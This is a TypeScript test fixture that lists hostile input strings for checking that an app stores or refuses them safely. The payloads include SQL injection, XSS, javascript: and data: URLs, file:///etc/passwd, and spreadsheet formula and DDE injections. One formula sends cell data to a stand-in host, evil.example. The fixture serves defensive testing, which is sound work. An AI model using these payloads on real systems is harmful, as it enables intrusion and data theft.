/**
 * Hostile input, shared by the unit, integration and e2e tests: what an attacker, a
 * broken device or a careless spreadsheet puts into every field that reaches the database or a
 * page. Each string must be stored verbatim and shown as text; none may run, change a query, or
 * become a formula in an export. Every one is at most 80 UTF-16 units, the shortest text field it
 * is pushed through (wall scene titles), except LONG_UNICODE, which tests use where a field takes
 * 200 (names).
 *
 * The script-bearing ones set `window.__pwned`: e2e asserts it stays undefined.
 */

/** Right-to-left override (U+202E): makes "txt.exe" read "exe.txt". */
const RLO = '\u202e';

export const HOSTILE_STRINGS: readonly string[] = [
  `'; DROP TABLE users; --`,
  `' OR '1'='1`,
  `1); DELETE FROM devices; --`,
  `\\'; SELECT pg_sleep(5); --`,
  `<script>window.__pwned=1</script>`,
  `<img src=x onerror="window.__pwned=1">`,
  `"><svg onload=window.__pwned=1>`,
  `</textarea><iframe srcdoc="<script>parent.__pwned=1</script>">`,
  `javascript:window.__pwned=1`,
  `{{7*7}} \${7*7} <%= 7*7 %>`,
  `=HYPERLINK("http://evil.example/?"&A1,"x")`,
  `+1+cmd|' /C calc'!A0`,
  `-2+3`,
  `@SUM(1+1)*cmd|'/c calc'!A1`,
  `%00%27%3Cscript%3E`,
  `Tên ${RLO}gnp.exe đường Lạch Tray 🚦 Ω≈ç√ 漢字`,
  `back\\slash and 50% _under_ "quote" 'apos' \`tick\``,
];

/** 200 code units of mixed scripts, astral emoji and combining marks (a name's limit). */
export const LONG_UNICODE = 'Hải Phòng 🚦 Ñ̃ 漢字 עִברִית العربية '.repeat(8).slice(0, 199) + '.';

/** Short enough for a licence plate (20): what a camera's plate reader could be made to send. */
export const HOSTILE_PLATES: readonly string[] = [
  `<img src=x>15A-999`,
  `'OR'1'='1 15A`,
  `<svg onload=x>`,
  `=1+1 15A-12345`,
  `15A\u202e-123.45`,
];

/** Never a link or a video source: each must be refused where a URL is validated. */
export const HOSTILE_URLS: readonly string[] = [
  'javascript:window.__pwned=1',
  'JaVaScRiPt:window.__pwned=1',
  ' javascript:window.__pwned=1',
  'data:text/html,<script>window.__pwned=1</script>',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  '//evil.example/x.m3u8',
];

/** Refused, not stored: PostgreSQL text cannot hold NUL, so it must be a 400, never a 500. */
export const NUL_STRING = 'before\u0000after';

/** Text a spreadsheet would evaluate when it opens a CSV. */
export const FORMULA_PREFIXES = ['=', '+', '-', '@', '\t', '\r'] as const;
